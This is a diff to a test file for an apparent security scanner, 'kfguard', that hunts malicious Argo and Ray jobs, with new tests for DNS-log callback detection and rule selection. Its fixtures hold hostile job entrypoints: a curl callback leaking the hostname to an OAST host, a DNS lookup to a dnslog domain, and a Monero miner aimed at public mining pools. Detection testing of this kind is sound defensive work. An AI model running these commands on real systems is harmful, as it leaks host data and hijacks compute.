@@ -171,13 +171,15 @@ describe('kfguard hunt --argo and --ray', () => {
         rayJob({ submission_id: 'raysubmit_recon', entrypoint: 'curl -s http://c7x1k2m9.oast.fun/$(hostname)', status: 'SUCCEEDED' }),
         rayJob({ submission_id: 'raysubmit_miner', entrypoint: 'python -c "import os; os.system(\'/tmp/dns-filter -o pool.supportxmr.com:443 --cpu-max-threads-hint 60\')"', runtime_env: { env_vars: { POOL: 'stratum+tcp://gulf.moneroocean.stream:20128' } } }),
         rayJob({ submission_id: 'raysubmit_train', entrypoint: 'python train.py --epochs 3' }),
+        rayJob({ submission_id: 'raysubmit_dnslog', entrypoint: 'python -c "import socket; socket.gethostbyname(\'abc.dnslog.cn\')"' }),
       ]),
     );
     const run = await runCli(['hunt', '--ray', api.url, '--format', 'json']);
     const report = json(run.stdout);
     const recon = report.findings.filter((f) => f.ruleId === 'job-recon-callback');
-    assert.deepEqual(recon.map((f) => f.origin.id), ['raysubmit_recon']);
-    assert.deepEqual(recon[0]?.evidence, ['OAST host c7x1k2m9.oast.fun']);
+    assert.deepEqual(recon.map((f) => f.origin.id).sort(), ['raysubmit_dnslog', 'raysubmit_recon']);
+    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_recon')?.evidence, ['OAST host c7x1k2m9.oast.fun']);
+    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_dnslog')?.evidence, ['OAST host abc.dnslog.cn']);
     const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
     assert.equal(miner?.origin.id, 'raysubmit_miner');
     assert.equal(miner?.origin.uiLink, `${api.url}/#/jobs/raysubmit_miner`);
@@ -194,5 +196,30 @@ describe('kfguard hunt --argo and --ray', () => {
     assert.match(run.stderr, /argo .*\/api\/v1\/workflows\/: 404 not found \(is this URL the right API\?/);
     assert.match(run.stderr, new RegExp(`kfp http://127\\.0\\.0\\.1:${closedPort}/: .*connection refused`));
     assert.ok(json(run.stdout).findings.some((f) => f.ruleId === 'job-recon-callback'));
+  });
+});
+
+describe('kfguard hunt: which rules judge a job API', () => {
+  const workflows = [argoWorkflow('miner', 'argo', MINER_ARGS), argoWorkflow('trainer', 'argo', ['python train.py'])];
+  const ruleIds = (report: Report): string[] => [...new Set(report.findings.map((f) => f.ruleId))].sort();
+
+  test('by default the responder rules (threat, breakout, run identity), not image posture', async () => {
+    const api = await serve(argoRoutes({ workflows }));
+    const report = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json'])).stdout);
+    const found = ruleIds(report);
+    assert.ok(found.includes('crypto-miner-workload'), found.join());
+    for (const posture of ['image-not-pinned-digest', 'image-floating-tag']) assert.ok(!found.includes(posture), `${posture} judged by default`);
+  });
+
+  test('--all-rules runs every rule that can judge a job API; --rule picks some', async () => {
+    const api = await serve(argoRoutes({ workflows }));
+    const all = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--all-rules', '--format', 'json'])).stdout);
+    assert.ok(ruleIds(all).includes('image-floating-tag'), ruleIds(all).join());
+    assert.ok(ruleIds(all).includes('crypto-miner-workload'));
+    const picked = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--rule', 'image-floating-tag', '--format', 'json', '--fail-on', 'none'])).stdout);
+    assert.deepEqual(ruleIds(picked), ['image-floating-tag']);
+    const unknown = await runCli(['hunt', '--argo', api.url, '--rule', 'image-floating-tags']);
+    assert.equal(unknown.code, 2);
+    assert.match(unknown.stderr, /unknown rule "image-floating-tags".*did you mean image-floating-tag/s);
   });
 });
